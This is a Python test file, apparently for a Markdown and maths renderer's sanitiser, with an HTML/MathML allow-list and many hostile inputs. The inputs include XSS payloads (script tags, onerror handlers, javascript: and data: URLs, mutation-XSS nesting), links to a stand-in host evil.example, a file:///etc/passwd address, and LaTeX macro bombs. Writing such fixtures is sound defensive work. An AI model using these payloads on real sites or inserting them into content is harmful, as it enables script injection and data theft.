"""Hostile Markdown: what answers could hold to run a script, fetch a file or lead a person astray."""

MATHS = (
    "math semantics annotation mrow mi mn mo ms mtext mspace msub msup msubsup mfrac msqrt mroot munder mover "
    "munderover mtable mtr mtd mlabeledtr mstyle mpadded mphantom menclose merror mglyph"
)
ATTRIBUTES = (
    "accent accentunder align columnalign columnlines columnspacing depth display displaystyle encoding fence form "
    "height linebreak linethickness lspace mathbackground mathcolor mathsize mathvariant maxsize minsize movablelimits "
    "notation rowlines rowspacing rspace scriptlevel separator side stretchy symmetric voffset width"
)
PLAIN = "div p ul li blockquote table thead tbody tr em strong s hr br code figcaption h3 h4 h5 h6"
ALLOWED: dict[str, set[str]] = {
    **{name: set() for name in PLAIN.split()},
    **{name: set(ATTRIBUTES.split()) for name in MATHS.split()},
    "ol": {"start"},
    "th": {"class", "scope"},
    "td": {"class"},
    "span": {"class", "tabindex", "title"},
    "pre": {"tabindex"},
    "figure": {"class"},
    "button": {"class", "type"},
    "a": {"href", "title", "target", "rel"},
}
HTML = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.example/x.mp4 onerror=alert(1) autoplay></video>",
    "<a href='javascript:alert(1)' autofocus onfocus=alert(1) tabindex=0>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1) style='background:url(https://evil.example/b)'>x</x>",
    "</div></main><script>alert(1)</script>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/x",
    "/v1/documents",
    "#/read",
    "https://evil.example/?q=secret",
    'https://evil.example/"onmouseover="alert(1)',
    "https://user:password@evil.example/",
    "mailto:a@b.example?body=x",
)
LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[![x]({})](https://example.org)",
    '[x]({} "title")',
    "[x][1]\n\n[1]: {}",
    "![x][1]\n\n[1]: <{}>",
    "<{}>",
)
FORMULAS = (
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\includegraphics{https://evil.example/x.png}",
    r"\htmlStyle{background:url(https://evil.example/x)}{x}",
    r"\htmlClass{top}{x}\htmlId{main}{x}",
    r"\htmlData{on=1}{x}",
    r"\text{<script>alert(1)</script>}",
    r"\unicode{x3c}script\unicode{x3e}",
    r"\def\x{\x\x}\x",
    r"\rule{1000000em}{1000000em}",
    r"\color{red;background:url(https://evil.example/x)}x",
    r"\textcolor{#123456}{x}\colorbox{yellow}{y}\fbox{z}\cancel{a}",
    r"\begin{matrix}<img src=x onerror=alert(1)>\\&\end{matrix}",
    r"\frac{a}{b}^{\sqrt{c}}_{\sum_{i}}",
    "x" * 3000,
    "{" * 500,
)


def payloads() -> list[str]:
    """All of them, alone and within other Markdown."""
    html = [frame.format(one) for one in HTML for frame in ("{}", "- {}", "> {}", "a `{}` b {}".replace("{}", "{0}"))]
    html += [f"| a | b |\n|:-:|--:|\n| {one} | x |" for one in HTML] + [f"```html {one}\n{one}\n```" for one in HTML]
    links = [frame.format(one) for one in ADDRESSES for frame in LINKS]
    maths = [frame.replace("@", one) for one in FORMULAS for frame in ("$@$", "$$@$$", r"\(@\)", "$$\n@\n$$")]
    rest = [
        ">" * 300 + "x",
        "- " * 300 + "x",
        "[" * 2000,
        "*" * 2000,
        "`" * 999,
        "$" * 999,
        "# \x00\u202e\ud83d\ude00",
        "1. x\n" * 200,
    ]
    return html + links + maths + rest
